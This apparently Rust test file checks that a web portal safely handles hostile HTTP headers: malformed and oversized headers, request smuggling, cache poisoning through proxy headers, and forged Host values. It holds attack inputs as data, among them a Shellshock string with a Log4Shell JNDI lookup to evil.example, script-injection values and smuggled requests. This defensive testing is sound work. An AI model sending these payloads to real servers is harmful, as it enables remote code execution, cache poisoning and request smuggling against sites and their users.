//! Hostile headers: too many, malformed, or chosen to make caches store a wrong answer.

use super::{FEW, ROUTES, assert_answered_safely, assert_nothing_panicked};
use crate::harness::portal;

#[test]
fn malformed_headers_are_ignored_or_refused() {
    let many_ranges = format!(
        "bytes={}",
        (0..2_000).map(|at| format!("{at}-{at}")).collect::<Vec<_>>().join(",")
    );
    let many_tags = vec!["\"x\""; 3_000].join(", ");
    let many_cookies = vec!["CF_Authorization=x.y.z"; 500].join("; ");
    let headers = [
        ("If-None-Match", "\"\", W/, W/\"\", \\\"*\\\", *x, , ,"),
        ("If-None-Match", &many_tags),
        ("If-Modified-Since", "hôm qua"),
        ("If-Match", "*"),
        ("If-Unmodified-Since", "Thu, 01 Jan 1970 00:00:00 GMT"),
        ("If-Range", "\""),
        ("Range", "bytes=0-18446744073709551615"),
        ("Range", "bytes=18446744073709551616-"),
        ("Range", "bytes=-18446744073709551616"),
        ("Range", "bytes=5-1, -, 0-, x"),
        ("Range", "bytes==0-1"),
        ("Range", &many_ranges),
        ("Accept", "application/json;q=NaN, */*;q=-1"),
        ("Accept-Language", "*;q=1e309, vi-;q=, \u{1}"),
        ("Accept-Encoding", "gzip;q=2, br;q=x, *;q=0"),
        ("Accept-Charset", "utf-7"),
        ("Cookie", "=; ;;; a; CF_Authorization; CF_Authorization=; =CF_Authorization=x"),
        ("Cookie", &many_cookies),
        ("Authorization", "Basic Og=="),
        ("Cf-Access-Jwt-Assertion", ".."),
        ("Cf-Connecting-Ip", "::ffff:999.1.1.1%eth0"),
        ("Content-Length", "0"),
        ("Content-Type", "application/x-www-form-urlencoded; charset=utf-16"),
        ("Content-Encoding", "gzip, gzip, gzip"),
        ("Expect", "200-maybe"),
        ("Upgrade", "h2c, websocket"),
        ("Sec-Fetch-Site", "\u{7f}"),
        ("Origin", "://"),
        ("Referer", "javascript:alert(1)"),
        ("User-Agent", "() { :; }; ${jndi:ldap://evil.example/x} <?php"),
        ("Te", "trailers, deflate;q=0.5"),
        ("X-Unknown", "\u{80}\u{ff}"),
    ];
    for route in FEW {
        for (name, value) in headers {
            let begin: String = value.chars().take(40).collect();
            let what = format!("{route} with {name}: {begin}");
            // Letters beyond ASCII are sent as one byte each (RFC 9110, section 5.5).
            let line = format!("{name}: {value}\r\n");
            let line: Vec<u8> = line.chars().map(|c| u8::try_from(c).unwrap_or(b'?')).collect();
            let request = portal().raw_request("GET", route, "X-Mark: here\r\n");
            let request = replaced(&request, b"X-Mark: here\r\n", &line);
            if let Some(answer) = assert_answered_safely(portal().send_bytes(request), &what) {
                let usual = [200, 206, 301, 302, 304, 400, 401, 403, 404, 416];
                assert!(usual.contains(&answer.status), "{what}: {}", answer.status);
            }
        }
    }
    assert_nothing_panicked(portal(), "tieu-de");
}

fn replaced(bytes: &[u8], part: &[u8], by: &[u8]) -> Vec<u8> {
    let at = bytes.windows(part.len()).position(|window| window == part).unwrap();
    [&bytes[..at], by, &bytes[at + part.len()..]].concat()
}

#[test]
fn very_many_or_very_long_headers_are_answered_or_refused() {
    let flood = |count: usize, length: usize| -> String {
        (0..count).map(|number| format!("X-{number}: {}\r\n", "x".repeat(length))).collect()
    };
    for (count, length) in [(100, 10), (1_000, 10), (1, 30_000), (20_000, 10), (1, 1_000_000)] {
        let answer = portal().get_raw("/tin-bai", &flood(count, length));
        if let Some(answer) = assert_answered_safely(answer, "a flood") {
            answer.assert_status(200);
        }
    }
    portal().get("/").assert_status(200);
}

#[test]
fn an_ambiguous_request_is_not_answered_twice() {
    let form = "Content-Type: application/x-www-form-urlencoded\r\n";
    let hidden = "GET /an HTTP/1.1\r\nHost: evil.example\r\n\r\n";
    for (what, headers, body) in [
        ("length and chunks", "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"),
        ("an unknown coding", "Transfer-Encoding: xchunked\r\n", "0\r\n\r\n"),
        (
            "a coding twice",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
            "0\r\n\r\n",
        ),
        ("two lengths", "Content-Length: 3\r\nContent-Length: 4\r\n", "a=bc"),
        ("a length below zero", "Content-Length: -3\r\n", "a=b"),
        ("a length beyond numbers", "Content-Length: 99999999999999999999\r\n", "a=b"),
        ("no number", "Content-Length: x\r\n", "a=b"),
        ("a chunk of no length", "Transfer-Encoding: chunked\r\n", "zz\r\nabc\r\n0\r\n\r\n"),
        ("a header without a colon", "abc\r\n", ""),
        ("a blank in a name", "X Y: z\r\n", ""),
        ("a NUL in a value", "X: a\0b\r\n", ""),
    ] {
        let mut request = portal().raw_request("POST", "/gop-y", &format!("{headers}{form}"));
        request.extend_from_slice(body.as_bytes());
        request.extend_from_slice(hidden.as_bytes());
        let answer = portal().send_bytes(request);
        if let Some(answer) = &answer {
            assert!(answer.status >= 400, "{what}: {}", answer.status);
            let text = String::from_utf8_lossy(&answer.bytes);
            assert!(
                !text.contains("evil.example") && !text.contains("HTTP/1.1 "),
                "{what}: {text}"
            );
        }
        assert_answered_safely(answer, what);
    }
    assert_nothing_panicked(portal(), "hai-cach-doc");
}

#[test]
fn headers_of_proxies_do_not_affect_cacheable_answers() {
    const POISON: [(&str, &str); 19] = [
        ("X-Forwarded-Host", "evil.example"),
        ("X-Forwarded-Host", "evil.example\"><script>x</script>"),
        ("X-Forwarded-Proto", "evil"),
        ("X-Forwarded-Scheme", "evil"),
        ("X-Forwarded-Port", "31337"),
        ("X-Forwarded-Prefix", "/evil"),
        ("X-Forwarded-Server", "evil.example"),
        ("X-Forwarded-For", "evil.example"),
        ("Forwarded", "host=evil.example;proto=evil"),
        ("X-Host", "evil.example"),
        ("X-Original-URL", "/bien-tap/evil"),
        ("X-Original-Host", "evil.example"),
        ("X-Rewrite-URL", "/evil"),
        ("X-HTTP-Method-Override", "POST"),
        ("X-Override-URL", "/evil"),
        ("X-HTTP-Destinationurl", "https://evil.example"),
        ("Referer", "https://evil.example/"),
        ("Origin", "https://evil.example"),
        ("User-Agent", "evil"),
    ];
    let tried = |route: &str, headers: &[(&str, &str)]| {
        let what = format!("{route} with {headers:?}");
        let plain = portal().get(route);
        let request = portal().request("GET", route);
        let request =
            headers.iter().fold(request, |request, (name, value)| request.header(name, value));
        let answer = request.send().assert_guarded(&what);
        let text = String::from_utf8_lossy(&answer.bytes).to_lowercase();
        assert!(!text.contains("evil") && !text.contains("31337"), "{what}: {text}");
        assert_eq!(
            (answer.status, answer.header("location")),
            (plain.status, plain.header("location")),
            "{what}"
        );
        // Caches do not vary by these headers, so the answer must be the same for everybody.
        assert_eq!(answer.header("vary"), plain.header("vary"), "{what}");
        assert_eq!(
            answer.header("cache-control").is_some_and(|cache| cache == "no-store"),
            plain.header("cache-control").is_some_and(|cache| cache == "no-store"),
            "{what}"
        );
    };
    for route in ROUTES {
        tried(route, &POISON);
    }
    for (name, value) in POISON {
        FEW.iter().for_each(|route| tried(route, &[(name, value)]));
    }
}

#[test]
fn a_foreign_host_header_is_not_repeated_in_the_answer() {
    for host in
        ["evil.example", "evil.example:80", "localhost:1@evil.example", "EVIL.EXAMPLE.", "[::1]:99"]
    {
        let routes: &[&str] = if host == "evil.example" { &ROUTES } else { &FEW };
        for route in routes {
            let what = format!("{route} at {host}");
            let answer = portal().get_raw(route, &format!("Host: {host}\r\n"));
            let Some(answer) = assert_answered_safely(answer, &what) else { continue };
            let text = String::from_utf8_lossy(&answer.bytes).to_lowercase();
            assert!(!text.contains("evil.example") && !text.contains("[::1]"), "{what}");
        }
    }
    for host in [
        "Host: <script>\r\n",
        "Host: a b\r\n",
        "Host:\r\n",
        "Host: localhost\r\nHost: evil.example\r\n",
    ] {
        if let Some(answer) = assert_answered_safely(portal().get_raw("/", host), host) {
            answer.assert_lacks("evil.example").assert_runs_no_script();
        }
    }
    // The accepted origin of forms is the portal's own scheme and host, whatever the Host header says.
    for origin in [&portal().origin(), "http://evil.example"] {
        let form = portal().request("POST", "/gop-y").header("host", "evil.example");
        let form = form.header("origin", origin).form(&[("noi_dung", "x")]);
        form.send().assert_status(403).assert_guarded("another host");
    }
}
